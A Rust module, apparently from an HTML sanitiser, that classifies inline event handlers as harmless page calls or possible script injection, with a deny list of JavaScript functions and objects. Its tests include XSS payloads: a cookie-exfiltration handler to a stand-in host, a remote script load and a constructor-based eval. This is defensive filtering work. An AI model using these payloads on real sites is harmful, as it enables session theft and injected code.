//! Handlers that a page's own markup has: `onload="init()"`, `onerror="this.src='x.png'"`.

use super::html::Attribute;

/// What a page calls no function of its own.
const HOSTILE: [&[u8]; 16] = [
    b"alert",
    b"atob",
    b"confirm",
    b"constructor",
    b"eval",
    b"fetch",
    b"function",
    b"import",
    b"open",
    b"print",
    b"prompt",
    b"settimeout",
    b"setinterval",
    b"write",
    b"writeln",
    b"xss",
];

/// Objects that lead out of the page.
const OBJECTS: [&[u8]; 9] = [
    b"document",
    b"frames",
    b"globalthis",
    b"location",
    b"parent",
    b"self",
    b"top",
    b"window",
    b"navigator",
];

/// Is the handler `attribute` a call of a function that the page has, or does it only change its own element?
///
/// Who can add markup can hardly mean it: the function is already there, and what it is given are constants.
pub(super) fn is_of_page(attribute: &Attribute) -> bool {
    attribute.quote == Some(b'"') && is_plain(attribute.value)
}

/// Is `code` one of them?
pub(super) fn is_plain(code: &[u8]) -> bool {
    let code = code.trim_ascii();
    let code = code.strip_suffix(b";").unwrap_or(code);
    let code = code.strip_prefix(b"return ").unwrap_or(code);
    let code = code
        .strip_prefix(b"this.onerror=null;")
        .unwrap_or(code)
        .trim_ascii();
    calls(code) || sets(code)
}

/// `init()`, `app.save(this, 'draft', 3)`
fn calls(code: &[u8]) -> bool {
    let name_length = length(code, b"_$.");
    let name = &code[..name_length];
    let arguments = code[name_length..]
        .strip_prefix(b"(")
        .and_then(|rest| rest.strip_suffix(b")"));
    let is_hostile = |part: &[u8]| HOSTILE.contains(&part) || OBJECTS.contains(&part);
    name_length > 3
        && !name.split(|byte| *byte == b'.').any(is_hostile)
        && arguments.is_some_and(|all| all.split(|byte| *byte == b',').all(is_argument))
}

fn is_argument(argument: &[u8]) -> bool {
    let argument = argument.trim_ascii();
    let quoted = argument
        .strip_prefix(b"'")
        .and_then(|rest| rest.strip_suffix(b"'"));
    let inner = quoted.unwrap_or(argument);
    let is_name = [&b""[..], b"this", b"event", b"true", b"false"].contains(&argument);
    let is_number = argument.iter().all(u8::is_ascii_digit);
    is_name || is_number || quoted.is_some() && length(inner, b"_-#. ") == inner.len()
}

/// `this.src='x.png'`, `this.style.display='none'`
fn sets(code: &[u8]) -> bool {
    let Some(rest) = code.strip_prefix(b"this.") else {
        return false;
    };
    let name = length(rest, b".");
    let value = rest[name..]
        .trim_ascii_start()
        .strip_prefix(b"=")
        .map(<[u8]>::trim_ascii);
    let value = value.and_then(|value| value.strip_prefix(b"'")?.strip_suffix(b"'"));
    let is_inside = [
        &b"src"[..],
        b"value",
        b"hidden",
        b"disabled",
        b"checked",
        b"classname",
    ]
    .contains(&&rest[..name])
        || rest.starts_with(b"style.");
    is_inside
        && value.is_some_and(|value| {
            length(value, b"_-./:#%? ") == value.len()
                && !value.starts_with(b"javascript")
                && !value.starts_with(b"data")
        })
}

/// How many bytes at the start are letters, digits or `signs`.
fn length(text: &[u8], signs: &[u8]) -> usize {
    text.iter()
        .take_while(|byte| byte.is_ascii_alphanumeric() || signs.contains(byte))
        .count()
}

#[cfg(test)]
mod tests {
    use super::is_plain;

    #[test]
    fn a_pages_own_calls_are_plain() {
        let rows = [
            ("init()", true),
            ("return app.check(this, 'draft', 3);", true),
            ("this.src='fallback.png'", true),
            ("this.onerror=null;this.src='/a/b.png';", true),
            ("this.style.display='none'", true),
            ("alert(1)", false),
            ("f()", false),
            ("window.name()", false),
            ("document.write('x')", false),
            ("load(name)", false),
            ("load('//a.example/x.js')", false),
            ("this.src='javascript:f()'", false),
            ("this.src='//a.example/?'+document.cookie", false),
            ("[].map.constructor('x')()", false),
            ("", false),
        ];
        for (code, plain) in rows {
            assert_eq!(is_plain(code.as_bytes()), plain, "{code}");
        }
    }
}
